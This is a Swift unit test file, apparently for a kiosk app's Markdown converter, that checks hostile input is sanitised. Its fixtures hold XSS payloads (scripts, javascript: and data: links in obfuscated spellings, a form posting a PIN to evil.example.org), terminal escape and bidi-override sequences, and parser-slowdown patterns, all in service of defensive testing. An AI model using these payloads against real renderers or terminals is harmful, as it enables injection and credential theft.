import KioskCore
@testable import KioskWeb
import XCTest

/// Hostile Markdown gives a harmless document, quickly, and never crashes.
final class MarkdownHostileInputTests: XCTestCase {
    private func convert(_ markdown: String) -> Document {
        MarkdownDocumentConverter.convert(markdown: markdown)
    }

    func testRawHTMLIsSanitisedLikeAPage() {
        // Given raw HTML blocks and inline tags: a script, a style, a frame, a form, a hidden
        // element, an event handler and harmless formatting
        let markdown = """
        <script>alert("S1")</script>

        <style>body { content: "S2" }</style>

        <iframe src="https://evil.example.org">S3</iframe>

        <form action="https://evil.example.org/send" method="post"><input name="pin" aria-label="PIN"></form>

        <div hidden>S4</div>

        Text with <b onclick="steal()">bold</b>, <kbd>Enter</kbd> and a <span style="display:none">S5</span>break<br>here.
        """
        // When it is converted
        let document = convert(markdown)
        // Then only the text of the last paragraph is left, its harmless formatting kept, no form
        XCTAssertEqual(document.blocks, [.paragraph([
            .text("Text with "), .text("bold", .strong), .text(", "), .text("Enter", .code), .text(" and a break"),
            .lineBreak, .text("here."),
        ])])
        XCTAssertFalse(HTMLTest.allText(document).joined().contains("S"), HTMLTest.allText(document).description)
    }

    func testScriptAndDataLinksBecomeTheirText() {
        // Given script links written in Markdown and in raw HTML, in several spellings
        let markdown = """
        [one](javascript:alert(1)) [two](JaVaScRiPt:alert(1)) [three](data:text/html,<script>x</script>)
        [four](vbscript:msgbox) <a href="javascript:alert(1)">five</a> [six](java&#x09;script:alert(1))
        [seven](<javascript:alert(1)>)
        """
        // When it is converted
        let document = convert(markdown)
        // Then no link is left
        XCTAssertEqual(document.links, [])
        XCTAssertEqual(document.plainText, "one two three four five six seven")
    }

    func testTenThousandNestedQuotesGiveAShallowDocument() {
        // Given 10,000 nested quotes, on one line and one per line
        let oneLine = String(repeating: ">", count: 10_000) + " deep"
        let perLine = (1...10_000).map { String(repeating: "> ", count: min($0, 40)) + "line \($0)" }.joined(separator: "\n")
        for markdown in [oneLine, perLine] {
            // When it is converted
            let document = convert(markdown)
            // Then quotes nest no deeper than a document allows, and the text is kept
            XCTAssertLessThanOrEqual(HTMLTest.nesting(document.blocks), Document.maxNesting)
            XCTAssertTrue(document.plainText.contains(markdown == oneLine ? "deep" : "line 10000"))
        }
    }

    func testDeepListsByMarkersAndByIndentationGiveAShallowDocument() {
        // Given 50,000 list markers on one line, and 1,000 levels of indented items
        let markers = String(repeating: "- ", count: 50_000) + "deep"
        let indented = (0..<1_000).map { String(repeating: "  ", count: $0) + "* level \($0)" }.joined(separator: "\n")
        for markdown in [markers, indented] {
            let document = convert(markdown)
            XCTAssertLessThanOrEqual(HTMLTest.nesting(document.blocks), Document.maxNesting)
            XCTAssertFalse(document.plainText.isEmpty)
        }
    }

    func testHugeInputIsCutAtTheLimit() {
        // Given 4 MB of text in paragraphs, numbered
        let markdown = (0..<80_000).map { "Paragraph \($0) with some words in it.\n" }.joined(separator: "\n")
        // When it is converted with a 1 MB limit
        let document = convert(markdown)
        // Then the beginning is there and the end is not
        XCTAssertEqual(document.blocks.first, .paragraph([.text("Paragraph 0 with some words in it.")]))
        XCTAssertFalse(document.plainText.contains("Paragraph 79999 "))
        XCTAssertLessThanOrEqual(document.plainText.utf8.count, 1024 * 1024)
    }

    func testOneHugeLineIsReadUpToTheTextBudget() {
        // Given a single line of 3 MB
        let markdown = String(repeating: "word ", count: 600_000)
        // When it is converted
        let document = convert(markdown)
        // Then the paragraph holds at most the text budget
        XCTAssertEqual(document.blocks.count, 1)
        XCTAssertLessThanOrEqual(document.plainText.unicodeScalars.count, MarkdownDocumentConverter().maxTextLength)
    }

    func testTerminalEscapesAndBidiOverridesNeverReachTheDocument() {
        // Given escape sequences and overrides, raw and as character references, in text, code, links and alt text
        let evil = "\u{1B}[2J\u{1B}]0;owned\u{07}\u{1B}]52;c;SGVsbG8=\u{07}\u{9B}31m\u{202E}\u{2066}x\r\u{8}"
        let markdown = """
        # T\(evil)

        A\(evil)&#x1b;[2J&#x9b;&#x202e;B `c\(evil)` [l\(evil)](https://example.org/\(evil)) ![i\(evil)](x.png)

        ```
        p\(evil)
        ```

        | h\(evil) |
        |---|
        | c\(evil) |
        """
        // When it is converted
        let document = convert(markdown)
        // Then no text of the document holds anything that could drive the terminal
        let texts = HTMLTest.allText(document)
        XCTAssertGreaterThan(texts.count, 6)
        for text in texts {
            let forbidden = text.unicodeScalars.filter { scalar -> Bool in
                let value = scalar.value
                return (value < 0x20 && value != 0x0A && value != 0x09) || (0x7F...0x9F).contains(value)
                    || (0x202A...0x202E).contains(value) || (0x2066...0x2069).contains(value)
            }
            XCTAssertTrue(forbidden.isEmpty, text.debugDescription)
        }
    }

    func testSlowPatternsOfTheParserConvertAndKeepTheirText() {
        // Given the inputs that are polynomial in cmark-gfm 0.29.0.gfm.6, at 200 KB each
        let inputs = [
            "x" + String(repeating: "<?", count: 100_000),
            "x" + String(repeating: "<!A ", count: 50_000),
            "x" + String(repeating: "<![CDATA[", count: 20_000),
            String(repeating: "![[]()", count: 35_000),
            "|a|\n|-|\n" + String(repeating: "|b" + String(repeating: "|c", count: 20_000) + "|\n", count: 5),
        ]
        for markdown in inputs {
            // When each is converted
            let document = convert(markdown)
            // Then a document comes back with the text
            XCTAssertFalse(document.plainText.isEmpty, String(markdown.prefix(20)))
        }
    }

    func testNULAndInvalidScalarsAreReplaced() {
        // Given a NUL, a lone surrogate written as a reference, and a noncharacter
        let document = convert("a\u{0}b &#xD800; c\u{FFFF}d")
        // Then each is the replacement character (cmark replaces the first two, gumbo the third)
        XCTAssertEqual(document.plainText, "a\u{FFFD}b \u{FFFD} c\u{FFFD}d")
    }
}
